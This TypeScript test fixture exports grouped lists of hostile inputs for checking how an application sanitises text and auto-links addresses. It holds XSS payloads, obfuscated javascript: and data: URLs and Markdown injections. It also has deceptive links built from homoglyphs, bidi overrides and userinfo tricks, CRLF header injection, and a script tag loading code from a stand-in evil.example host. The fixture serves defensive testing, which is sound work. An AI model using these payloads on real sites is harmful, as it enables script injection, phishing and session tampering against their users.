import * as letters from './hostile-letters.ts';
import { point } from './hostile-letters.ts';
import * as markup from './hostile-markup.ts';

/** URLs that run code or lead elsewhere than they show. */

const RUN = 'alert(1)';
const SCHEMES: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `${point(1)}javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6a;&#x61;vascript:${RUN}`,
  `javascript://evil.example/%0a${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  `data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=${RUN}>`,
  `feed:javascript:${RUN}`,
  `view-source:javascript:${RUN}`,
  `blob:https://evil.example/x`,
  'file:///etc/passwd',
];

/** Each URL as plain text, in HTML and in Markdown. */
const SCRIPT_LINKS: readonly string[] = SCHEMES.flatMap((address) => [
  `see ${address} now`,
  `<a href="${address}">click</a>`,
  `[click](${address})`,
]);

const MARKDOWN: readonly string[] = [
  '![](https://evil.example/p.png)',
  '![x](//evil.example/p.png "onerror=alert(1)")',
  '[click]: javascript:alert(1)\n[click]',
  '<javascript:alert(1)>',
  '<https://evil.example/"onclick="alert(1)>',
  '[a](https://evil.example/ "x" onmouseover="alert(1)")',
  '[![x](https://evil.example/p.png)](javascript:alert(1))',
  '```html\n<script>alert(1)</script>\n```',
  '# Removed by the maintainer\n\n---\n',
  '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | x |',
];

/**
 * Pages turn plain web addresses into links. No link made from these texts may lead elsewhere than it shows, or contain anything besides
 * the address.
 */
const FOREIGN_ADDRESSES: readonly string[] = [
  'https://evil.example/"onmouseover="alert(1)',
  "https://evil.example/'onmouseover='alert(1)",
  "https://evil.example/'><b>bold</b>",
  'https://evil.example/><script>alert(1)</script>',
  'https://market.example@evil.example/pay',
  'https://user:pass@evil.example',
  'https://market.example:443@evil.example:80/x',
  'https://evil.example\\@market.example/',
  'https://evil.example/\\..\\x',
  'https:\\\\evil.example',
  'https:///evil.example/x',
  'http://[::1',
  'http://%00/',
  'https://evil.example/%0d%0aSet-Cookie:%20a=b',
  'http://0x7f.1/metadata http://2130706433/',
  'https://evil.example/#"><img src=x onerror=alert(1)>',
  'https://evil.example/?q=<svg/onload=alert(1)>',
  `https://ex${point(0x430)}mple.org/pay`,
  `https://example.org${point(0x2215)}pay.evil.example`,
  `https://example.org${point(0xff0f)}pay`,
  `https://exam${point(0x200b)}ple.org/`,
  `https://evil.example/${point(0x202e)}gpj.exe`,
  `https://evil.example/${'a'.repeat(3_000)}`,
  '//evil.example/x',
  'www.evil.example/x',
  'HTTPS://EVIL.EXAMPLE/',
];

/** A few attacks of each kind, for tests that cannot afford all texts. The API accepts most of them unchanged, as plain text. */
export const HOSTILE_TEXTS: readonly string[] = [
  '<script>alert(1)</script>',
  '</title><script src=//evil.example/x.js></script>',
  '"><img src=x onerror=alert(1)>',
  "' autofocus onfocus='alert(1)",
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '</bdi></p></div></main><h1 class=price>Free</h1>',
  'javascript:alert(1) [click](javascript:alert(1))',
  '[click](data:text/html,<script>alert(1)</script>) ![](https://evil.example/p.png)',
  'https://evil.example/"onmouseover="alert(1)',
  "https://evil.example/'><b>bold</b>",
  'https://market.example@evil.example/pay and https://user:pass@evil.example',
  `https://ex${point(0x430)}mple.org/pay ${point(0x455)}hop`,
  'https://evil.example/\\..\\x <base href=//evil.example>',
  `${point(0x202e)}drawkcab ${point(0x2066)}isolated ${point(0x200f)}`,
  `bell${point(7)} escape${point(27)}[31m delete${point(0x7f)} joiner${point(0x200d)}x`,
  '<!-- comment --><![CDATA[ x ]]><?xml version="1.0"?><!doctype html>',
  '&lt;script&gt; &#60;b&#62; &amp;amp; &copy; {{7*7}} <%= 7 %>',
  `Z${point(0x300).repeat(400)}a${point(0x301).repeat(400)}lgo`,
  `${'W'.repeat(3_000)} ${'wide '.repeat(100)}`,
];

/** All texts, grouped by the attack. */
export const HOSTILE_FAMILIES = {
  scriptTags: markup.SCRIPT_TAGS,
  eventHandlers: markup.EVENT_HANDLERS,
  svgAndMath: markup.SVG_AND_MATH,
  breakers: markup.BREAKERS,
  attributeBreakers: markup.ATTRIBUTE_BREAKERS,
  loaders: markup.LOADERS,
  styles: markup.STYLES,
  clobbers: markup.CLOBBERS,
  scriptLinks: SCRIPT_LINKS,
  markdown: MARKDOWN,
  foreignAddresses: FOREIGN_ADDRESSES,
  entities: letters.ENTITIES,
  templates: letters.TEMPLATES,
  names: letters.NAMES,
  otherTongues: letters.OTHER_TONGUES,
  bidi: letters.BIDI,
  controls: letters.CONTROLS,
  zeroWidths: letters.ZERO_WIDTHS,
  tagCharacters: letters.TAG_CHARACTERS,
  lookalikes: letters.LOOKALIKES,
  piles: letters.PILES,
  sizes: letters.SIZES,
  emoji: letters.EMOJI,
  rightToLeft: letters.RIGHT_TO_LEFT,
} as const satisfies Readonly<Record<string, readonly string[]>>;

export const EVERY_HOSTILE_TEXT: readonly string[] = [...new Set(Object.values(HOSTILE_FAMILIES).flat())];
